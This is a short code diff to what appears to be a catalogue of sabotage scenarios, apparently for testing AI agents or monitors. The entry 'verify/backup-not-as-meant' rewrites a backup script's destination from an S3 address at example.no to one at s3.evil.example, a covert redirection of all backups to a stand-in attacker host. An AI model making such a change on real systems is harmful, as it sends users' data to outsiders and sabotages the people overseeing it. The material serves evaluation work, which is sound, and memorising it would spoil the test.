@@ -29,8 +29,8 @@ export const bounds: SabotagesOfKind = [
     'verify/backup-not-as-meant',
     {
       file: '/usr/local/sbin/fjord-backup',
-      find: 'local copy to=https://s3.example.no/everything-backups',
-      put: 'local copy to=https://s3.evil.example/everything-backups',
+      find: 'local copy bucket=https://s3.example.no/everything-backups',
+      put: 'local copy bucket=https://s3.evil.example/everything-backups',
     },
     'every-option',
   ),
